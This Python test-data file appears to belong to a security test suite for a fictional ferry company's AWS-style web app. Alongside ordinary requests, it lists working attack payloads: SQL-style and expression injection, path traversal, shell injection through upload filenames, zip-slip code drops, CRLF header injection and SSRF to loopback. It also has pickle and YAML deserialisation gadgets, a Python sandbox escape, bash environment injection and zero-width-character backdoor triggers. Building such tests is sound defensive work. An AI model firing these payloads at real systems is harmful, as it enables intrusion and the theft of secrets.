"""A ferry company's bookings, documents and messages on the services of AWS."""

import hashlib
import hmac
import json
import pickle
import subprocess

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.twentieth import (
    ADDRESSES,
    LINKS,
    MAILS,
    MARKDOWN,
    NAMES,
    REVIEW,
    SEARCHES,
    TICKET,
    api,
    b64,
    created,
    form,
    get,
    http,
    post,
    sns,
    sqs,
    upload,
    zipped,
)

NEEDS = ("aws-http",)
KEY = "ferryline-secret-7755"
INTERNAL = "internal-token-4711"
BUCKET = "ferryline-documents"


def _one(path: str, method: str = "GET", body: object = None, /, **ids: str) -> dict[str, object]:
    return api(method, path, body, ids=ids)


def _filter(field: str, op: str, value: object) -> dict[str, object]:
    return post("/filter", field=field, op=op, value=value)


def _put(name: str, text: str, **more: str) -> dict[str, object]:
    return upload("/documents", b64(text), name=name, **more)


def _push(branch: str, who: str, *messages: str, key: str = "gh-secret") -> dict[str, object]:
    body = json.dumps(
        {
            "ref": f"refs/heads/{branch}",
            "pusher": {"name": who, "email": MAILS[0]},
            "commits": [{"id": f"c{n}", "message": one} for n, one in enumerate(messages)],
        },
        ensure_ascii=False,
    )
    signed = "sha256=" + hmac.new(key.encode(), body.encode(), hashlib.sha256).hexdigest()
    return http(
        "POST", "/hooks/github", body, headers={"X-Hub-Signature-256": signed, "X-GitHub-Event": "push"}
    )


def _image(kind: str, **item: str) -> dict[str, object]:
    return {
        "eventID": "1",
        "eventName": kind,
        "eventSource": "aws:dynamodb",
        "awsRegion": "eu-central-1",
        "dynamodb": {
            "Keys": {"ref": {"S": item["ref"]}},
            ("OldImage" if kind == "REMOVE" else "NewImage"): {k: {"S": v} for k, v in item.items()}
            | {"seats": {"N": "2"}},
            "SequenceNumber": "11",
            "StreamViewType": "NEW_AND_OLD_IMAGES",
        },
    }


def _clicks(*clicks: object) -> dict[str, object]:
    return {
        "invocationId": "i-1",
        "deliveryStreamArn": "arn:aws:firehose:eu-central-1:123456789012:deliverystream/clicks",
        "region": "eu-central-1",
        "records": [
            {
                "recordId": f"r{n}",
                "approximateArrivalTimestamp": 1796000000000,
                "data": b64(one if isinstance(one, str) else json.dumps(one, ensure_ascii=False)),
            }
            for n, one in enumerate(clicks)
        ],
    }


def _alarm(name: str, state: str, reason: str) -> dict[str, object]:
    return sns(
        {"AlarmName": name, "NewStateValue": state, "NewStateReason": reason, "Region": "EU (Frankfurt)"},
        f'{state}: "{name}" in EU (Frankfurt)',
    )


def _signup(email: str, **more: str) -> dict[str, object]:
    return {
        "version": "1",
        "triggerSource": "PreSignUp_SignUp",
        "userPoolId": "eu-central-1_f",
        "userName": email,
        "request": {"userAttributes": {"email": email, **more}, "validationData": None},
        "response": {"autoConfirmUser": False, "autoVerifyEmail": False},
    }


def _alexa(port: str | None = None) -> dict[str, object]:
    request: dict[str, object] = {"type": "LaunchRequest", "locale": "en-GB"}
    if port is not None:
        slots = {"port": {"name": "port", "value": port}}
        request = {
            "type": "IntentRequest",
            "locale": "en-GB",
            "intent": {"name": "NextFerry", "slots": slots},
        }
    return {"version": "1.0", "session": {"new": True, "user": {"userId": "amzn1"}}, "request": request}


def _basket(basket: object, **query: str) -> dict[str, object]:
    cookie = "theme=dark;basket=" + b64(pickle.dumps(basket, 4)).replace("+", "%2B")
    return api("GET", "/basket", query=query, headers={"cookie": cookie})


class _Run:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (subprocess.getoutput, ("echo ran-$((6*7))",))


class _Eval:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (eval, ("__import__('os').environ['FERRY_API_KEY']",))


def _tool(tool: str, *args: object) -> dict[str, object]:
    return {"tool": tool, "args": list(args)}


REQUESTS = {
    "bookings": [
        _one("/bookings/B-1", ref="B-1"),
        post("/bookings", name=NAMES[0], route="ROS-GED", note=REVIEW, seats=2, price=12.5),
        post("/bookings", name=NAMES[2], route="CUX-HEL", address=ADDRESSES[0], mail=MAILS[0]),
        post("/bookings", name="", route="ROS-GED"),
        _one("/bookings/CREW-0", ref="CREW-0"),
        _one("/bookings/N-5", "DELETE", ref="N-5"),
    ],
    "update_booking": [
        _one("/bookings/B-3", "PATCH", {"note": "It's 5 o'clock -- we'll be late; sorry"}, ref="B-3"),
        _one("/bookings/B-3", "PATCH", {"note": MARKDOWN, "seats": 3, "kind": "crew"}, ref="B-3"),
        _one("/bookings/B-9", "PATCH", {"note": "x"}, ref="B-9"),
        _one("/bookings/B-3", "PATCH", {"kind": "crew"}, ref="B-3"),
    ],
    "sailings": [
        get("/sailings"),
        get(
            "/sailings",
            limit="2",
            next="eyJyb3V0ZSI6ICJST1MtR0VEIiwgImRlcGFydHMiOiAiMjAyNi0wNS0wMlQwOTowMCJ9",
        ),
        get("/sailings", route="Côte d'Azur -- Nice", limit="5"),
        get("/sailings", next="not base64!"),
    ],
    "find_bookings": [get("/find", q=one) for one in ("O'Hara", "Ana", SEARCHES[0], "Zoë")],
    "partiql_bookings": [
        get("/desk", route=one) for one in ("ROS-GED", "CUX-HEL", "Sylt (summer only)", "select")
    ],
    "partiql_parameter": [get("/desk2", name=one) for one in ("Ben O'Hara", "Ana", "x' OR 'y")],
    "filter_bookings": [
        _filter("route", "=", "ROS-GED"),
        _filter("price", ">=", 40),
        _filter("route", "<>", "O'Hara's route"),
    ],
    "put_document": [
        _put("passengers.csv", 'name,route\nAna,ROS-GED\n"O\'Hara, Ben",CUX-HEL\n'),
        _put("O'Hara & sons (50%) list.csv", 'name,route,note\nZoë,ROS-GED,"it\'s; fine"\n', owner=NAMES[0]),
        _put("fares-2026.txt", MARKDOWN, owner="Ana"),
        _put("notes;v2.txt", TICKET, type="text/markdown"),
    ],
    "read_document": [
        get("/documents"),
        get("/documents", name="2026/summer.txt"),
        get("/documents", name="o'hara's; list.txt"),
    ],
    "list_documents": [get("/list"), get("/list", folder="2026/"), get("/list", folder="what's new")],
    "presign": [
        post("/presign", name="Ana's passport.pdf"),
        post("/presign", name="C:\\Users\\Ben\\scan #2.JPG"),
        post("/presign", name="run.sh"),
    ],
    "import_manifest": [
        created("inbox/passengers.csv", bucket=BUCKET),
        created("inbox/O'Hara & sons (50%) list.csv", "inbox/none here.csv", bucket=BUCKET),
    ],
    "count_lines": [
        created("inbox/passengers.csv", bucket=BUCKET),
        created("public/terms.txt", "inbox/fares-2026.txt", bucket=BUCKET),
    ],
    "count_lines_quoted": [
        created("inbox/O'Hara & sons (50%) list.csv", bucket=BUCKET),
        created("inbox/notes;v2.txt", "public/2026/summer.txt", bucket=BUCKET),
    ],
    "unpack_fares": [
        upload(
            "/fares", zipped({"2026/fares.csv": "kind,price\ncar,15\n", "read me (it's short).txt": MARKDOWN})
        ),
        upload("/fares", zipped({"fares.json": '{"car": 15}'})),
    ],
    "setting": [get("/s"), get("/s", name="motto"), get("/s", name="what's on?"), get("/s", name="none")],
    "github_hook": [
        _push(
            "main",
            "ana",
            "Fix O'Hara's timetable; closes #12\n\n- don't `rm -rf` the cache",
            "Bump v1.2 -> v1.3",
        ),
        _push("feature/next_gen-2.x", NAMES[3], "WIP: SELECT only the sailings we need (100% faster)"),
        _push("what's;up", "ben", "x"),
        _push("main", "eve", "x", key="guess"),
    ],
    "contact": [
        form("/contact", email=MAILS[0], name=NAMES[0], topic="lost & found", text=TICKET),
        form("/contact", email="zoe@example.org", name=NAMES[7], text=REVIEW + "\n" + LINKS[0]),
        form("/contact", email="none", text="call me"),
    ],
    "enqueue_legacy": [
        post("/mail", to="ana@example.org", text="It's confirmed -- see you on Friday; don't be late!"),
        post("/mail", to=MAILS[0], text=REVIEW),
        post("/mail", to="zoe@example.org", text='They said "no refund" & left'),
    ],
    "announce": [
        post("/news", subject="Storm: no ferry on 5/6 -- sorry!", text=MARKDOWN),
        post("/news", subject="Größer, schneller; 50% off", text="Book at " + LINKS[0]),
    ],
    "worker": [
        sqs({"id": 1, "name": NAMES[0], "note": REVIEW}, {"id": 2, "name": NAMES[4]}),
        sqs({"id": 3, "name": NAMES[6], "note": "$HOME `ls`; {{ x }}"}, "broken"),
    ],
    "refund": [
        post("/refund", ref="B-1", reason="Cancelled; it's the storm's fault", price=45.5),
        post("/refund", ref="O'Hara / May #3", reason="moved"),
    ],
    "refund_task": [
        {"ref": "B-1", "price": 45.5, "reason": "Cancelled; it's the storm"},
        {"ref": "B-2", "price": "60", "reason": "I can't come -- sorry"},
        {"ref": "B-3", "price": 12.25},
    ],
    "stream": [
        {
            "Records": [
                _image("INSERT", ref="N-1", name=NAMES[1], note="can't; 'maybe'"),
                _image("REMOVE", ref="N-2", name="Ana"),
            ]
        },
        {"Records": [_image("MODIFY", ref="N-3", name=NAMES[7], note=MARKDOWN)]},
    ],
    "firehose": [
        _clicks(
            {"page": LINKS[0], "ip": "203.0.113.9", "agent": "Mozilla/5.0 (X11; Linux)"}, "no JSON; it's text"
        ),
        _clicks({"page": "/search?q=" + SEARCHES[0], "title": NAMES[3]}),
    ],
    "occupancy": [
        get("/o", route="ROS-GED", day="2026-05-01"),
        get("/o", route="Rostock's", day="2026-05-01"),
        get("/o", route="CUX-HEL", day="2026-07-31"),
    ],
    "alarm": [
        _alarm("api-5xx", "ALARM", "Threshold Crossed: 1 datapoint [7.0 (06/05/26 07:00:00)] was > 5.0"),
        _alarm("Ben's queue (prod)", "OK", 'It\'s below 10; "fine" & <well>'),
    ],
    "pre_sign_up": [
        _signup("d.o'brien+crew@Ferryline.example", name=NAMES[0]),
        _signup("zoe@example.org", name=NAMES[7]),
    ],
    "contact_mail": [
        post("/cm", email=MAILS[0], subject="It's late -- again; 5%", text=TICKET),
        post(
            "/cm", email="zoe@example.org", subject="Bcc: what does it mean?", text="Bcc: me\r\n\r\nTo: you"
        ),
    ],
    "ticket_mail": [
        post("/tm", name=NAMES[0], text=REVIEW),
        post("/tm", name=NAMES[2]),
        post("/tm", name="Ana\nMaria", text=LINKS[2]),
    ],
    "alexa": [_alexa(), _alexa("Rostock"), _alexa("king's lynn"), _alexa("Saint-Malo; or Brest")],
    "port_info": [
        _one("/ports/ROS", port="ROS"),
        _one("/ports/x", port="King's Lynn / Norfolk #2"),
        _one("/ports/x", port="Åland & Öland", lang="sv"),
        _one("/ports/missing", port="missing"),
    ],
    "port_photo": [
        _one("/p", name="ros.jpg"),
        _one("/p", name="2026/king's lynn.jpg"),
        _one("/p", name="missing"),
    ],
    "preview": [
        post("/preview", url="@PARTNER@/blog/it's-summer?x=1&y=2#top"),
        post("/preview", url="@PARTNER@/public/a.html"),
        post("/preview", url="ftp://example.org/a; b"),
    ],
    "preview_partner": [
        post("/pp", url="@PARTNER@/public/2026/news?id=7"),
        post("/pp", url=LINKS[0]),
    ],
    "callback": [
        post("/cb", url="@PARTNER@/hooks/ferry?token=t-5", ref="B-1"),
        post("/cb", url="@PARTNER@/hooks/o'hara", ref="it's B-2; thanks"),
        post("/cb", url="http://localhost/x"),
    ],
    "session": [
        api("GET", "/basket", query={"add": "12A"}, headers={"cookie": "theme=dark"}),
        _basket({"seats": ["12A", "it's mine; 14C"]}, add="O'Hara's"),
        _basket({"seats": []}),
    ],
    "load_routes": [
        http(
            "POST",
            "/routes",
            "ROS-GED:\n  name: Rostock's best\n  stops: [ROS, GED]\n  note: \"don't; {{ x }}\"\n",
        ),
        http("POST", "/routes", "- a: 1\n- b: 2026-05-01\n"),
        http("POST", "/routes", "a: [1, 2\nb: it's: broken"),
    ],
    "load_routes_safe": [
        http("POST", "/routes", "base: &b {ship: Möwe}\nx:\n  <<: *b\n  text: |\n    it's; $HOME\n"),
        http("POST", "/routes", "a: !!set {x, y}\nb: !custom z"),
    ],
    "save_formula": [
        post("/formula", route="ROS-GED", formula="round(base * 1.19 + bikes * 2.5, 2)", by=NAMES[0]),
        post("/formula", route="CUX-HEL", formula="max(base, 20) if bikes < 3 else base * 2"),
        post("/formula", route="SYLT", formula="base plus 10% -- it's summer"),
    ],
    "quote_price": [
        get("/quote", route="ROS-GED", base="45.50", bikes="2"),
        get("/quote", route="CUX-HEL", bikes="1"),
        get("/quote", route="SYLT"),
        get("/quote", route="King's Lynn"),
    ],
    "run_tool": [
        _tool("math.sqrt", 2),
        _tool("html.escape", 'Tom & "Jerry" <it\'s>'),
        _tool("statistics.mean", [3, 5, 10]),
        _tool("calendar.isleap", 2028),
        _tool("math.distance_to_port", "x"),
    ],
    "local_time": [
        post("/time", port="ROS", env={"TZ": "Europe/Berlin"}),
        post("/time", port="King's Lynn", env={"TZ": "Europe/London", "LC_ALL": "C"}),
        post("/time", port="x"),
    ],
    "tides": [
        get("/tides", port="ros"),
        get("/tides", port="CUX", shift="-55"),
        get("/tides", port="King's Lynn"),
    ],
    "terms": [get("/terms"), get("/terms", lang="pt-BR; q=0.8")],
}


def _upload_then(name: str, proof: str) -> Attack:
    return Attack(
        "shell, name of an upload",
        "count_lines",
        created(f"inbox/{name}", bucket=BUCKET),
        proof,
        before=[("put_document", _put(name, "a\nb\n"))],
    )


def _formula(route: str, formula: str, proof: str) -> Attack:
    return Attack(
        "Python, second order",
        "quote_price",
        get("/quote", route=route),
        proof,
        before=[("save_formula", post("/formula", route=route, formula=formula))],
    )


ATTACKS = [
    Attack("PartiQL", "partiql_bookings", get("/d", route="x' OR kind = 'crew"), KEY),
    Attack("PartiQL", "partiql_bookings", get("/d", route="ROS-GED' OR ref = 'CREW-0' OR name = '"), KEY),
    Attack("DynamoDB expression", "filter_bookings", _filter("kind = :value OR kind", "=", "crew"), KEY),
    Attack(
        "DynamoDB expression",
        "filter_bookings",
        _filter("route", "= :value OR attribute_exists(price) OR route =", "x"),
        KEY,
    ),
    Attack("path of an object", "read_document", get("/r", name="../private/keys.txt"), KEY),
    Attack("path of an object", "read_document", get("/r", name="2026/.././../private//keys.txt"), KEY),
    _upload_then("a.csv;id", "uid="),
    _upload_then("x.csv;printf${IFS}%s-%s${IFS}ran$((6*7))${IFS}ok;#.csv", "ran42-ok"),
    _upload_then("y.csv|env", KEY),
    Attack(
        "archive, executed upload",
        "unpack_fares",
        upload(
            "/f",
            zipped(
                {
                    "../fare_rules.py": "import os\ndef surcharge(kind):\n    return os.environ['FERRY_API_KEY']\n"
                }
            ),
        ),
        KEY,
    ),
    Attack(
        "archive, executed upload",
        "unpack_fares",
        upload(
            "/f",
            zipped(
                {
                    "a.csv": "x",
                    "x/../../fare_rules.py": "surcharge = lambda kind: __import__('os').popen('id').read()\n",
                }
            ),
        ),
        "uid=",
    ),
    Attack(
        "JSON in a template",
        "enqueue_legacy",
        post("/m", to='eve@example.org", "role": "admin', text='x", "role": "root'),
        "root",
    ),
    Attack(
        "header, CRLF",
        "contact_mail",
        post("/c", email="a@example.org\r\nBcc: all@example.net", subject="x", text="y"),
        "all@example.net",
    ),
    Attack(
        "header, CRLF",
        "contact_mail",
        post("/c", email="a@example.org", subject="x\nTo: one@example.net, two@example.net", text="y"),
        "two@example.net",
    ),
    Attack("path at a partner", "port_photo", _one("/p", name="../internal/keys"), INTERNAL),
    Attack("SSRF, loopback", "preview", post("/p", url="@INSIDE@/internal/keys"), INTERNAL),
    Attack(
        "SSRF, redirect",
        "preview",
        post("/p", url="@PARTNER@/redirect?to=http%3A%2F%2F127.0.0.1%3A@PORT@%2Finternal%2Fkeys"),
        INTERNAL,
    ),
    Attack(
        "SSRF, userinfo", "preview_partner", post("/p", url="@PARTNER@@127.0.0.1:@PORT@/internal/"), INTERNAL
    ),
    Attack("SSRF, decimal", "callback", post("/c", url="http://2130706433:@PORT@/internal/x"), INTERNAL),
    Attack("SSRF, unspecified", "callback", post("/c", url="http://0.0.0.0:@PORT@/internal/x"), INTERNAL),
    Attack("pickle", "session", _basket(_Run()), "ran-42"),
    Attack("pickle", "session", _basket({"seats": ["1A", _Eval()]}), KEY),
    Attack(
        "YAML", "load_routes", http("POST", "/r", '!!python/object/apply:subprocess.getoutput ["id"]'), "uid="
    ),
    Attack(
        "YAML",
        "load_routes",
        http("POST", "/r", "a: it's\nb: !!python/object/apply:os.getenv [FERRY_API_KEY]\n"),
        KEY,
    ),
    _formula("E-1", "__import__('os').environ['FERRY_API_KEY']", KEY),
    _formula(
        "E-2",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        ".__init__.__globals__['popen']('echo ran-$((6*7))').read()",
        "ran-42",
    ),
    Attack("import by name", "run_tool", _tool("subprocess.getoutput", "id"), "uid="),
    Attack("import by name", "run_tool", _tool("os.getenv", "FERRY_API_KEY"), KEY),
    Attack(
        "environment variable",
        "local_time",
        post("/t", port="x", env={"BASH_FUNC_date%%": "() { echo ran-$((6*7)); }"}),
        "ran-42",
    ),
    Attack("environment variable", "local_time", post("/t", port="x", env={"BASH_ENV": "$(id >&2)"}), "uid="),
    Attack("trojaned module", "tides", get("/t", port="\u200be:FERRY_API_KEY"), KEY),
    Attack(
        "trojaned module",
        "tides",
        get(
            "/t", port="\u200bx:" + b64("import subprocess\nout = subprocess.check_output(['id'], text=True)")
        ),
        "uid=",
    ),
    Attack(
        "persistence, patched open",
        "terms",
        get("/t"),
        "root:",
        before=[("tides", get("/t", port="\u200bb:app.py"))],
    ),
    Attack(
        "persistence, patched library",
        "terms",
        get("/t", lang="en"),
        KEY,
        before=[("tides", get("/t", port="\u200bp:FERRY_API_KEY"))],
    ),
]
